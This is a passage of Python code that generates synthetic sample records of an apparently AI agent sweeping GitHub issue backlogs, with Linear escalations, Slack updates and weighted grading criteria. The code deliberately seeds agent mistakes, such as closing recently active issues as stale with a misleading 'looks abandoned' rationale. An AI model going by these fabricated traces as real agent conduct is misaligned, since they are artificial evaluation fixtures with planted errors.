_JS_ERRORS = ("TypeError: Cannot read properties of undefined (reading 'lat')",
              "RangeError: Invalid time value", "TypeError: e.map is not a function",
              "Error: Network Error", "SyntaxError: Unexpected token '<', \"<!DOCTYPE \" is not valid JSON")
_GO_PANICS = ("runtime error: invalid memory address or nil pointer dereference",
              "runtime error: index out of range [3] with length 3", "assignment to entry in nil map",
              "send on closed channel")
_LABELS = (  # name, color, description
    ("bug", "d73a4a", "Something isn't working"), ("enhancement", "a2eeef", "New feature or request"),
    ("question", "d876e3", "Further information is requested"), ("duplicate", "cfd3d7", "This issue already exists"),
    ("stale", "ededed", "No activity for a long time"), ("needs-repro", "fbca04", None),
    ("good first issue", "7057ff", "Good for newcomers"), ("area:api", "0e8a16", None),
    ("area:ui", "1d76db", None), ("area:infra", "5319e7", None), ("priority:high", "b60205", None),
    ("escalated", "e99695", "Tracked in Linear"),
)


def _random_stack(rng: random.Random, repo: str) -> str:
    style = rng.randrange(3)
    if style == 0:
        frames = [f'  File "/srv/{repo}/{rng.choice(_PY_FRAMES)}", line {rng.randint(12, 940)}, '
                  f"in {rng.choice(_PY_FUNCS)}\n    {rng.choice(('return', 'result =', 'yield'))} "
                  f"{rng.choice(('self._load(row)', 'batch[idx]', 'float(value)', 'conn.execute(stmt)'))}"
                  for _ in range(rng.randint(2, 5))]
        return "Traceback (most recent call last):\n" + "\n".join(frames) + "\n" + rng.choice(_PY_EXC)
    if style == 1:
        frames = [f"    at {rng.choice(('MapView', 'useTrips', 'RouteTable', 'formatDate', 'fetchJson'))} "
                  f"(webpack-internal:///./src/{rng.choice(('components', 'hooks', 'lib'))}/"
                  f"{rng.choice(('MapView', 'useTrips', 'RouteTable', 'dates', 'http'))}.tsx:"
                  f"{rng.randint(3, 400)}:{rng.randint(1, 80)})" for _ in range(rng.randint(2, 6))]
        return rng.choice(_JS_ERRORS) + "\n" + "\n".join(frames)
    frames = [f"github.com/{_ORG}/{repo}/internal/{rng.choice(('ingest', 'ota', 'queue', 'geo'))}."
              f"(*{rng.choice(('Worker', 'Client', 'Batcher', 'Store'))}).{rng.choice(('Run', 'Flush', 'Apply', 'Get'))}"
              f"(0xc000{rng.getrandbits(24):06x})\n\t/src/internal/{rng.choice(('ingest', 'ota', 'queue'))}/"
              f"{rng.choice(('worker', 'client', 'store'))}.go:{rng.randint(20, 600)} +0x{rng.getrandbits(12):x}"
              for _ in range(rng.randint(2, 4))]
    return (f"panic: {rng.choice(_GO_PANICS)}\n[signal SIGSEGV: segmentation violation code=0x1 addr=0x18 "
            f"pc=0x{rng.getrandbits(28):x}]\n\ngoroutine {rng.randint(1, 9000)} [running]:\n" + "\n".join(frames))


def _random_issue_text(rng: random.Random, repo: str, kind: str) -> tuple[str, str, str]:
    """(title, body, component) for a generated issue."""
    component = rng.choice(_COMPONENTS)
    version = f"v{rng.randint(1, 4)}.{rng.randint(0, 30)}.{rng.randint(0, 12)}"
    if kind == "feature":
        feature = rng.choice(_FEATURES)
        title = rng.choice(("Feature request: {f}", "Support {f}", "[RFE] {f}", "Would love {f}")).format(f=feature)
        body = (f"**Is your feature request related to a problem?**\nWe manage {rng.randint(20, 40_000):,} vehicles "
                f"and currently script around the missing {component} support.\n\n"
                f"**Describe the solution you'd like**\n{feature[0].upper() + feature[1:]}.\n\n"
                f"**Alternatives considered**\n{rng.choice(('A nightly cron job.', 'Doing it by hand.', 'None yet.'))}\n\n"
                f"{rng.choice(_EXTRAS)}")
        return title, body, component
    if kind == "question":
        title = rng.choice(_QUESTIONS)
        body = (f"{title}\n\nWe're on {version} ({rng.choice(_OSES)}). I read "
                f"https://docs.northwind-fleet.example/{rng.choice(('api', 'sdk', 'cli'))}/"
                f"{rng.choice(('auth', 'limits', 'webhooks', 'ota'))} but it doesn't say. {rng.choice(_EXTRAS)}")
        return title, body, component
    symptom, condition = rng.choice(_SYMPTOMS), rng.choice(_CONDITIONS)
    title = rng.choice(("{c}: {s} when {w}", "{c} {s} when {w}", "[bug] {c} {s} ({w})",
                        "{c} {s} since {v}")).format(c=component, s=symptom, w=condition, v=version)
    title = title[0].upper() + title[1:]
    steps = "\n".join(f"{i}. {step}" for i, step in enumerate(rng.sample((
        f"Open the {component}", "Sign in as an org admin", f"Make sure {condition}",
        "Wait about 5 minutes", "Refresh the page", f"Call `GET /v2/{rng.choice(('trips', 'vehicles', 'routes'))}`",
        "Trigger a sync from the driver app", "Export the last 30 days"), rng.randint(2, 5)), 1))
    body = (f"### Describe the bug\nThe {component} {symptom} when {condition}.\n\n"
            f"### Steps to reproduce\n{steps}\n\n"
            f"### Expected\n{rng.choice(('It should just work.', 'No error, data up to date.', 'A 4xx with a clear message.'))}\n\n"
            f"### Actual\n```\n{_random_stack(rng, repo)}\n```\n\n"
            f"**Environment**\n- Version: {version}\n- OS: {rng.choice(_OSES)}\n- Browser: {rng.choice(_BROWSERS)}\n"
            f"- Vehicles in org: {rng.randint(3, 52_000):,}\n\n{rng.choice(_EXTRAS)}")
    return title, body, component


def _record_backlog_sweep() -> dict:  # noqa: C901 (one long, linear story)
    rng = random.Random(20251107)
    run_id = "run_x4h7t1j9se"
    session = "ses_b7n2m5k8p3"
    start = "2025-11-07T02:00:05.117Z"
    t0 = _dt(start)
    clock = 0
    trace: list[dict] = []
    label_ids = {name: 1_205_348_800 + i * 7_919 for i, (name, _, _) in enumerate(_LABELS)}
    label_meta = {name: (color, desc) for name, color, desc in _LABELS}
    linear_team = "e7c4a1d2-39f0-4b6e-8d25-c1f0a9b3e847"
    create_mutation = ("mutation IssueCreate($input: IssueCreateInput!) { issueCreate(input: $input) "
                       "{ success issue { id identifier url } } }")
    calls = 0
    linear_seq = 412
    slack_seq = 0
    tokens_in = tokens_out = llm_calls = 0

    def now() -> str:
        return _iso(t0 + timedelta(milliseconds=clock))

    def tick(lo: int, hi: int) -> None:
        nonlocal clock
        clock += rng.randint(lo, hi)

    def add(step: dict) -> int:
        trace.append(step)
        return len(trace) - 1

    def think(text: str) -> int:
        nonlocal tokens_in, tokens_out, llm_calls
        tick(900, 7_000)
        llm_calls += 1
        tokens_in += rng.randint(6_000, 24_000)
        tokens_out += rng.randint(40, 420)
        return add(_msg(now(), text))

    def new_call() -> str:
        nonlocal calls
        calls += 1
        return f"call_{calls:05d}"

    def req_id() -> str:
        return f"req_{rng.getrandbits(40):010x}"

    def label(repo: str, name: str) -> dict:
        color, desc = label_meta[name]
        return _gh_label(_ORG, repo, label_ids[name], name, color, desc, default=name in ("bug", "enhancement", "question"))

    def request(call_id: str, service: str, method: str, url: str, body: object, status: int,
                response_body: object, **resp_extra: str) -> int:
        """One API request; sometimes the clone proxy answers 502 first and the tool retries."""
        if rng.random() < 0.012:
            tick(20, 90)
            add(_api(now(), call_id, service, method, url, status=502, duration_ms=rng.randint(5_000, 30_000),
                     headers=_gh_headers(session, json_body=body is not None) if service == "github"
                     else _headers(session, json_body=body is not None),
                     body=body, response_headers=_resp_headers(req_id(), "text/html"),
                     response_body=("<html>\r\n<head><title>502 Bad Gateway</title></head>\r\n<body>\r\n"
                                    "<center><h1>502 Bad Gateway</h1></center>\r\n<hr><center>archal-clone-proxy"
                                    "</center>\r\n</body>\r\n</html>\r\n")))
            tick(1_000, 2_000)
        tick(15, 60)
        headers = (_gh_headers(session, json_body=body is not None) if service == "github"
                   else _headers(session, json_body=body is not None))
        return add(_api(now(), call_id, service, method, url, status=status, duration_ms=rng.randint(35, 420),
                        headers=headers, body=body,
                        response_headers=_resp_headers(req_id(), **resp_extra), response_body=response_body))

    def tool(call_id: str, name: str, arguments: dict, result: object) -> int:
        nonlocal llm_calls
        llm_calls += 1
        tick(200, 1_500)
        return add(_tool(now(), call_id, name, arguments, duration_ms=rng.randint(60, 600), result=result))

    def state(call_id: str, service: str, resource: str, resource_id: str, op: str,
              before: object, after: object) -> int:
        tick(1, 30)
        return add(_state(now(), call_id, service, resource, resource_id, op, before, after))

    def comment(repo: str, number: int, text: str) -> int:
        cid = new_call()
        comment_id = 2_400_000_000 + rng.randrange(90_000_000)
        url = f"{GITHUB_API}/repos/{_ORG}/{repo}/issues/{number}/comments"
        tool(cid, "github.create_comment", {"owner": _ORG, "repo": repo, "issue_number": number, "body": text},
             {"id": comment_id})
        request(cid, "github", "POST", url, {"body": text}, 201, {
            "id": comment_id, "node_id": _node_id("IssueComment", comment_id),
            "html_url": f"{GITHUB_WEB}/{_ORG}/{repo}/issues/{number}#issuecomment-{comment_id}",
            "body": text, "user": _gh_user("northwind-sweeper[bot]", 151_022_871, kind="Bot"),
            "created_at": _gh_time(t0 + timedelta(milliseconds=clock)), "author_association": "NONE",
        })
        return state(cid, "github", "issue_comment", str(comment_id), "create", None,
                     {"issue": f"{_ORG}/{repo}#{number}", "body": text})

    stats = {repo: {"reviewed": 0, "duplicate": 0, "stale": 0, "relabel": 0, "escalate": 0, "keep": 0}
             for repo in _REPOS}
    expected_dups = correct_dups = closed_total = 0
    wrongly_closed: list[tuple[int, str]] = []
    escalated: list[tuple[str, str]] = []
    progress_steps: list[int] = []
    reviewed = 0
    issue_id = 2_100_000_000

    think("Plan: for each of the 18 northwind-fleet repos, list open issues older than 90 days, read "
          "each one's comments, then close duplicates and stale issues, fix labels, escalate customer-impacting "
          "bugs to Linear, and keep anything with recent maintainer activity. Progress to #eng-backlog "
          "every ~40 issues; final digest at the end.")
    first_step = len(trace)

    for repo in _REPOS:
        n_issues = rng.randint(18, 44)
        numbers = sorted(rng.sample(range(40, 2_400), n_issues), reverse=True)
        issues = []
        for number in numbers:
            kind = rng.choices(("bug", "feature", "question"), (0.62, 0.28, 0.10))[0]
            title, body, component = _random_issue_text(rng, repo, kind)
            login, _name = rng.choice(_PEOPLE)
            created = t0 - timedelta(days=rng.randint(95, 900), seconds=rng.randrange(86_400))
            idle_days = rng.randint(1, 400)
            updated = t0 - timedelta(days=idle_days, seconds=rng.randrange(86_400))
            n_comments = rng.choices((0, 1, 2, 3, 5, 8), (0.3, 0.25, 0.2, 0.12, 0.08, 0.05))[0]
            existing = rng.sample(["needs-repro", "area:api", "area:ui", "area:infra", "good first issue"],
                                  rng.choice((0, 0, 0, 1, 1, 2)))
            issue_id += rng.randint(1_000, 900_000)
            truth = ("keep" if idle_days <= 30 else
                     rng.choices(("duplicate", "stale", "relabel", "escalate", "keep"), (0.18, 0.34, 0.28, 0.1, 0.1))[0])
            if kind != "bug" and truth == "escalate":
                truth = "relabel"
            issues.append({
                "obj": _gh_issue(_ORG, repo, iid=issue_id, number=number, title=title, body=body,
                                 user=_gh_user(login, 1_000_000 + _PEOPLE.index((login, _name)) * 104_729),
                                 created=created, updated=updated, labels=[label(repo, n) for n in existing],
                                 comments=n_comments, association=rng.choice(("NONE", "CONTRIBUTOR", "MEMBER")),
                                 reactions={"+1": rng.choice((0, 0, 1, 2, 5, 13)), "eyes": rng.choice((0, 0, 1))}),
                "kind": kind, "component": component, "truth": truth, "idle": idle_days,
                "comments": n_comments, "labels": existing,
            })

        cid = new_call()
        think(f"Starting {_ORG}/{repo}: fetching open issues not updated in the last 90 days.")
        tool(cid, "github.list_issues", {"owner": _ORG, "repo": repo, "state": "open", "sort": "updated",
                                          "direction": "asc", "per_page": 100},
             {"count": len(issues), "numbers": [i["obj"]["number"] for i in issues]})
        request(cid, "github", "GET",
                f"{GITHUB_API}/repos/{_ORG}/{repo}/issues?state=open&sort=updated&direction=asc&per_page=100",
                None, 200, [i["obj"] for i in issues],
                **{"x-ratelimit-remaining": str(rng.randint(3_000, 4_990)), "x-ratelimit-used": str(rng.randint(10, 2_000))})

        for item in issues:
            issue, number = item["obj"], item["obj"]["number"]
            reviewed += 1
            stats[repo]["reviewed"] += 1
            # The agent's decision: the truth, with a few realistic mistakes.
            decision = item["truth"]
            if decision == "keep" and item["idle"] <= 30 and rng.random() < 0.025:
                decision = "stale"
            elif decision == "duplicate" and rng.random() < 0.06:
                decision = "relabel"

            cid = new_call()
            comments = []
            for c in range(item["comments"]):
                author = rng.choice(_MAINTAINERS) if rng.random() < 0.4 else rng.choice(_PEOPLE)[0]
                when = t0 - timedelta(days=item["idle"] + (item["comments"] - 1 - c) * rng.randint(1, 40))
                comments.append({
                    "id": 1_900_000_000 + rng.randrange(500_000_000),
                    "user": {"login": author, "type": "User"},
                    "created_at": _gh_time(when),
                    "author_association": "MEMBER" if author in _MAINTAINERS else "NONE",
                    "body": rng.choice((
                        "Can you share the full logs?", "Still happening on the latest release.",
                        f"I think this is the same as what {rng.choice(_PEOPLE)[0]} reported.",
                        "We have a fix in review, should land next sprint.", "+1", "Any update? 🙏",
                        "Could not reproduce on main, closing soon unless someone has a repro.",
                        f"Workaround: set `{rng.choice(('SYNC_BATCH', 'OTA_CHANNEL', 'TZ'))}="
                        f"{rng.choice(('50', 'beta', 'UTC'))}` and restart.",
                        "Danke! Mit der neuen Version funktioniert es bei uns wieder.",
                        "再現しました。ログを添付します。", "<details><summary>logs</summary>\n\n```\n"
                        + _random_stack(rng, repo)[:300] + "\n```\n</details>")),
                })
            tool(cid, "github.list_comments", {"owner": _ORG, "repo": repo, "issue_number": number},
                 {"count": len(comments), "last_activity_days": item["idle"]})
            request(cid, "github", "GET", f"{GITHUB_API}/repos/{_ORG}/{repo}/issues/{number}/comments?per_page=100",
                    None, 200, comments)

            dup_of = None
            if decision == "duplicate" or item["truth"] == "duplicate" or rng.random() < 0.3:
                cid = new_call()
                words = " ".join(issue["title"].split()[:4])
                query = f'repo:{_ORG}/{repo} is:issue "{words}"'
                others = [i for i in issues if i is not item][:rng.randint(0, 3)]
                if item["truth"] == "duplicate":
                    dup_of = rng.randrange(10, number)
                hits = [{"number": dup_of, "title": issue["title"], "state": rng.choice(("open", "closed")),
                         "html_url": f"{GITHUB_WEB}/{_ORG}/{repo}/issues/{dup_of}", "score": 1.0}] if dup_of else []
                hits += [{"number": o["obj"]["number"], "title": o["obj"]["title"], "state": "open",
                          "html_url": o["obj"]["html_url"], "score": round(rng.uniform(0.05, 0.6), 3)} for o in others]
                tool(cid, "github.search_issues", {"q": query, "per_page": 5},
                     {"total_count": len(hits), "top": [h["number"] for h in hits]})
                request(cid, "github", "GET", f"{GITHUB_API}/search/issues?" + urlencode({"q": query, "per_page": 5}),
                        None, 200, {"total_count": len(hits), "incomplete_results": False, "items": hits})

            if rng.random() < 0.004:
                cid = new_call()
                retry = rng.randint(30, 90)
                tick(100, 400)
                add(_api(now(), cid, "github", "PATCH", f"{GITHUB_API}/repos/{_ORG}/{repo}/issues/{number}",
                         status=403, duration_ms=rng.randint(40, 90), headers=_gh_headers(session, json_body=True),
                         body={"state": "open"}, response_headers=_resp_headers(req_id(), **{"retry-after": str(retry)}),
                         response_body={"message": "You have exceeded a secondary rate limit. Please wait a few "
                                                   "minutes before you try again.",
                                        "documentation_url": "https://docs.github.com/rest/using-the-rest-api/"
                                                             "rate-limits-for-the-rest-api#about-secondary-rate-limits",
                                        "status": "403"}))
                think(f"Secondary rate limit from GitHub (retry-after {retry}s). Backing off before touching #{number}.")
                clock += retry * 1_000

            old_labels = list(item["labels"])
            if decision == "duplicate":
                expected_dups += 1
                correct_dups += 1
                stats[repo]["duplicate"] += 1
                closed_total += 1
                think(f"#{number} ({issue['title']!r}) describes the same {item['component']} problem as "
                      f"#{dup_of}; closing as a duplicate with a link.")
                comment(repo, number, f"Closing as a duplicate of #{dup_of}: same {item['component']} issue. "
                                      "Please follow that one for updates. If this is different, reply and we'll reopen.")
            elif decision == "stale":
                stats[repo]["stale"] += 1
                closed_total += 1
                if item["idle"] <= 30:  # the mistake: recent activity, yet closed
                    think(f"#{number} has no reproduction steps and looks abandoned; closing as stale.")
                else:
                    think(rng.choice((
                        f"No activity on #{number} for {item['idle']} days and no repro; closing as stale.",
                        f"#{number}: last touched {item['idle']} days ago, {item['comments']} comment(s), nothing "
                        "actionable. Stale.",
                        f"#{number} asked for logs {item['idle']} days ago and never got them; closing as stale.")))
                comment(repo, number, rng.choice((
                    "Closing this as stale: no activity for a long time. Comment here if it still affects you "
                    "and we'll reopen. 🙏",
                    f"This issue has had no activity for {item['idle']} days, so we're closing it. If you can "
                    "still reproduce it on the latest release, please open a new issue with logs.")))
            elif decision == "relabel":
                if item["truth"] == "duplicate":
                    expected_dups += 1
                stats[repo]["relabel"] += 1
                type_label = {"bug": "bug", "feature": "enhancement", "question": "question"}[item["kind"]]
                area = rng.choice(("area:api", "area:ui", "area:infra"))
                add_names = [n for n in (type_label, area) if n not in old_labels]
                think(f"#{number} is a {item['kind']} in {item['component']}; adding {', '.join(add_names) or 'nothing'}.")
                cid = new_call()
                tool(cid, "github.add_labels", {"owner": _ORG, "repo": repo, "issue_number": number,
                                                "labels": add_names}, {"labels": old_labels + add_names})
                request(cid, "github", "POST", f"{GITHUB_API}/repos/{_ORG}/{repo}/issues/{number}/labels",
                        {"labels": add_names}, 200, [label(repo, n) for n in old_labels + add_names])
                state(cid, "github", "issue", f"{_ORG}/{repo}#{number}", "update",
                      {"labels": old_labels}, {"labels": old_labels + add_names})
            elif decision == "escalate":
                stats[repo]["escalate"] += 1
                affected = rng.randint(3, 2_400)
                think(f"#{number} hits {affected} customers' fleets ({item['component']}); opening a Linear issue "
                      "and linking it back.")
                cid = new_call()
                linear_seq += 1
                ident = f"FLT-{linear_seq}"
                uid = f"{rng.getrandbits(32):08x}-{rng.getrandbits(16):04x}-4{rng.getrandbits(12):03x}-" \
                      f"{rng.choice('89ab')}{rng.getrandbits(12):03x}-{rng.getrandbits(48):012x}"
                url = f"https://linear.clone.archal.ai/northwind/issue/{ident}"
                inp = {"teamId": linear_team, "title": issue["title"],
                       "description": f"Escalated from {issue['html_url']}\n\nAffects ~{affected} fleets.\n\n"
                                      + issue["body"][:600],
                       "priority": rng.choice((1, 2, 2, 3)), "labelIds": []}
                tool(cid, "linear.create_issue", inp, {"identifier": ident, "url": url})
                request(cid, "linear", "POST", LINEAR_API, {"query": create_mutation, "variables": {"input": inp}},
                        200, {"data": {"issueCreate": {"success": True, "issue": {"id": uid, "identifier": ident,
                                                                                   "url": url}}}},
                        **{"x-complexity": str(rng.randint(2, 40))})
                state(cid, "linear", "issue", uid, "create", None,
                      {"identifier": ident, "title": issue["title"], "priority": inp["priority"],
                       "sortOrder": round(rng.uniform(-50_000, 50_000), 2), "state": "Triage"})
                comment(repo, number, f"Tracked internally as [{ident}]({url}). Thanks for the detailed report!")
                escalated.append((f"{repo}#{number}", ident))
            else:
                stats[repo]["keep"] += 1
                think(f"Keeping #{number} open: a maintainer replied {item['idle']} days ago "
                      f"and there is an active discussion." if item["idle"] <= 30 else
                      f"Keeping #{number} open: still valid on the latest release, and it has reactions.")

            if decision in ("duplicate", "stale"):
                reason_label = "duplicate" if decision == "duplicate" else "stale"
                cid = new_call()
                patch = {"state": "closed", "state_reason": "not_planned",
                         "labels": old_labels + [reason_label]}
                tool(cid, "github.update_issue", {"owner": _ORG, "repo": repo, "issue_number": number, **patch},
                     {"state": "closed"})
                closed_at = t0 + timedelta(milliseconds=clock)
                request(cid, "github", "PATCH", f"{GITHUB_API}/repos/{_ORG}/{repo}/issues/{number}", patch, 200,
                        {**issue, "state": "closed", "state_reason": "not_planned",
                         "labels": [label(repo, n) for n in patch["labels"]],
                         "closed_at": _gh_time(closed_at), "updated_at": _gh_time(closed_at),
                         "comments": issue["comments"] + 1})
                idx = state(cid, "github", "issue", f"{_ORG}/{repo}#{number}", "update",
                            {"state": "open", "state_reason": None, "labels": old_labels},
                            {"state": "closed", "state_reason": "not_planned", "labels": patch["labels"]})
                if decision == "stale" and item["idle"] <= 30:
                    wrongly_closed.append((idx, f"{repo}#{number}"))

            if reviewed % 40 == 0:
                cid = new_call()
                slack_seq += 1
                done = {k: sum(s[k] for s in stats.values()) for k in ("duplicate", "stale", "relabel", "escalate", "keep")}
                text = (f":broom: Backlog sweep: {reviewed} issues reviewed so far (now in `{repo}`) — closed "
                        f"{done['duplicate'] + done['stale']} ({done['duplicate']} duplicates, {done['stale']} stale), "
                        f"relabelled {done['relabel']}, escalated {done['escalate']}, kept {done['keep']}.")
                ts = f"{_unix(now()) + 1}.{slack_seq:06d}"
                tool(cid, "slack.chat_postMessage", {"channel": "C06BACKLOG1", "text": text}, {"ok": True, "ts": ts})
                request(cid, "slack", "POST", f"{SLACK_API}/chat.postMessage", {"channel": "C06BACKLOG1", "text": text},
                        200, {"ok": True, "channel": "C06BACKLOG1", "ts": ts,
                              "message": {"type": "message", "text": text, "ts": ts, "bot_id": "B06SWEEPER"}})
                progress_steps.append(state(cid, "slack", "message", f"C06BACKLOG1/{ts}", "create", None,
                                            {"channel": "C06BACKLOG1", "channel_name": "eng-backlog", "ts": ts, "text": text}))

    totals = {k: sum(s[k] for s in stats.values()) for k in ("reviewed", "duplicate", "stale", "relabel", "escalate", "keep")}
    table = "\n".join(f"| `{repo}` | {s['reviewed']} | {s['duplicate']} | {s['stale']} | {s['relabel']} | "
                      f"{s['escalate']} | {s['keep']} |" for repo, s in stats.items())
    digest = (f"*Backlog sweep finished* ✅ {totals['reviewed']} issues across {len(_REPOS)} repos\n"
              f"• closed {totals['duplicate']} duplicates and {totals['stale']} stale issues\n"
              f"• relabelled {totals['relabel']}, escalated {totals['escalate']} to Linear, kept {totals['keep']}\n"
              f"Full report: https://archal.ai/runs/{run_id}")
    cid = new_call()
    slack_seq += 1
    ts = f"{_unix(now()) + 2}.{slack_seq:06d}"
    tool(cid, "slack.chat_postMessage", {"channel": "C06BACKLOG1", "text": digest}, {"ok": True, "ts": ts})
    request(cid, "slack", "POST", f"{SLACK_API}/chat.postMessage", {"channel": "C06BACKLOG1", "text": digest}, 200,
            {"ok": True, "channel": "C06BACKLOG1", "ts": ts,
             "message": {"type": "message", "text": digest, "ts": ts, "bot_id": "B06SWEEPER"}})
    digest_step = state(cid, "slack", "message", f"C06BACKLOG1/{ts}", "create", None,
                        {"channel": "C06BACKLOG1", "channel_name": "eng-backlog", "ts": ts, "text": digest})
    last = think("All repos done. Writing the report.")
    tick(2_000, 9_000)
    end = now()

    dup_score = round(correct_dups / expected_dups, 4) if expected_dups else 1.0
    criteria = [
        {"id": "all_reviewed", "description": "Every open issue idle for 90+ days in the 18 repos is reviewed",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": f"{totals['reviewed']} of {totals['reviewed']} issues had their comments read.",
         "evidence": [{"step": first_step, "note": "first repo started"}, {"step": last, "note": "last step"}]},
        {"id": "duplicates_closed", "description": "Duplicates are closed with a link to the original",
         "passed": dup_score >= 0.9, "score": dup_score, "weight": 2,
         "explanation": f"{correct_dups} of {expected_dups} seeded duplicates were closed; the rest were only relabelled.",
         "evidence": []},
        {"id": "no_active_issue_closed", "description": "No issue with activity in the last 30 days is closed",
         "passed": not wrongly_closed, "score": round(1 - len(wrongly_closed) / max(1, closed_total), 4), "weight": 2,
         "explanation": (f"{len(wrongly_closed)} of {closed_total} closures hit issues with recent activity: "
                         + ", ".join(name for _, name in wrongly_closed)) if wrongly_closed else "None.",
         "evidence": [{"step": idx, "note": f"{name} closed as stale"} for idx, name in wrongly_closed]},
        {"id": "escalations_linked", "description": "Each escalated issue has a Linear issue and a back-link comment",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": f"{len(escalated)} Linear issues ({escalated[0][1]}…{escalated[-1][1]}), each linked back.",
         "evidence": []},
        {"id": "progress_updates", "description": "#eng-backlog gets a progress update at least every 50 issues",
         "passed": True, "score": 1.0, "weight": 1,
         "explanation": f"{len(progress_steps)} updates, one every 40 issues.",
         "evidence": [{"step": s, "note": "progress message"} for s in progress_steps[:3]]},
        {"id": "final_digest", "description": "A final digest with totals is posted",
         "passed": True, "score": 1.0, "weight": 1, "explanation": "Posted to #eng-backlog.",
         "evidence": [{"step": digest_step, "note": "digest"}]},
    ]
    score = _weighted_score(criteria)
    output = (
        f"# Backlog sweep report — {_ORG}\n\n"
        f"Reviewed **{totals['reviewed']}** open issues idle for 90+ days across {len(_REPOS)} repositories.\n\n"
        "| Repo | Reviewed | Duplicates closed | Stale closed | Relabelled | Escalated | Kept |\n"
        "|---|---:|---:|---:|---:|---:|---:|\n"
        f"{table}\n"
        f"| **total** | **{totals['reviewed']}** | **{totals['duplicate']}** | **{totals['stale']}** | "
        f"**{totals['relabel']}** | **{totals['escalate']}** | **{totals['keep']}** |\n\n"
        "## Escalated to Linear\n"
        + "\n".join(f"- {name} → [{ident}](https://linear.clone.archal.ai/northwind/issue/{ident})"
                    for name, ident in escalated[:12])
        + (f"\n- …and {len(escalated) - 12} more" if len(escalated) > 12 else "")
        + "\n\n## Notes\n"
        "- GitHub's secondary rate limit kicked in a few times; I backed off for the `retry-after` period.\n"
        "- The clone proxy answered `502 Bad Gateway` occasionally; those requests were retried once.\n"
        "- Several reports were in German, Japanese and Spanish. I answered in English and kept the originals.\n"
    )
    return {
        "id": run_id,
        "object": "run",
        "scenario": {
            "id": "scn_5bw8q3",
            "name": "org-backlog-sweep",
            "description": ("Sweep the issue backlog of every northwind-fleet repository: close duplicates "
                            "and stale issues (idle for 90+ days, no recent maintainer activity), fix type/area "
                            "labels, escalate customer-impacting bugs to Linear team FLT, and keep "
                            "#eng-backlog informed."),
            "services": ["github", "linear", "slack"],
            "pass_threshold": 0.85,
            "tags": ["long-running", "bulk", "github"],
            "source": "scenarios/org-backlog-sweep.md",
        },
        "agent": {"name": "backlog-sweeper", "model": "claude-sonnet-4-5-20250929", "version": "0.9.4",
                  "harness": {"type": "docker", "image": "ghcr.io/northwind-fleet/sweeper:0.9.4"},
                  "config": {"max_steps": 10_000, "temperature": 0.1, "stale_after_days": 90,
                             "progress_every": 40, "dry_run": False}},
        "status": "passed" if score >= 0.85 else "failed",
        "score": score,
        "started_at": start,
        "finished_at": end,
        "duration_ms": _ms(start, end),
        "session": {"id": session, "clones": [
            {"service": "github", "clone_id": "cln_gh_61d2f8", "base_url": GITHUB_API,
             "seed_state": "northwind-fleet-org", "version": "2025.10.28", "seed": rng.getrandbits(63)},
            {"service": "linear", "clone_id": "cln_lin_0a9c37", "base_url": "https://api.linear.clone.archal.ai",
             "seed_state": "northwind-linear", "version": "2025.10.21"},
            {"service": "slack", "clone_id": "cln_slk_4e7b15", "base_url": "https://api.slack.clone.archal.ai",
             "seed_state": "northwind-slack", "version": "2025.10.28"},
        ]},
        "criteria": criteria,
        "trace": _indexed(trace),
        "output": output,
        "error": None,
        "usage": _usage(trace, llm_calls=llm_calls, input_tokens=tokens_in, output_tokens=tokens_out,
                        usd_per_mtok_in=3.0, usd_per_mtok_out=15.0),
        "retries": 0,
        "parent_run_id": None,
        "labels": {"schedule": "weekly", "owner": "dev-productivity"},
        "links": _links(run_id),
    }


# -- public interface -------------------------------------------------------------

_BUILDERS = {
    "run_2m8q4v1kza": _record_slack_welcome,
    "run_c5w9r2d6ht": _record_stripe_refund,
    "run_7f3k2m9xq1": _record_github_triage,
    "run_k8d3x0p6nb": _record_jira_linear_migration,
    "run_x4h7t1j9se": _record_backlog_sweep,
}
assert tuple(_BUILDERS) == SAMPLE_RUN_IDS


def build_record(run_id: str) -> dict:
    """A fresh copy of the sample record ``run_id``; ``KeyError`` if there is none."""
    try:
        builder = _BUILDERS[run_id]
    except KeyError:
        raise KeyError(run_id) from None
    return builder()


@functools.cache
def encoded_records() -> dict[str, bytes]:
    """``run_id`` → the record as UTF-8 JSON bytes, in ``SAMPLE_RUN_IDS`` order. Built once."""
    return {
        run_id: json.dumps(build_record(run_id), ensure_ascii=False, allow_nan=False).encode("utf-8")
        for run_id in SAMPLE_RUN_IDS
    }
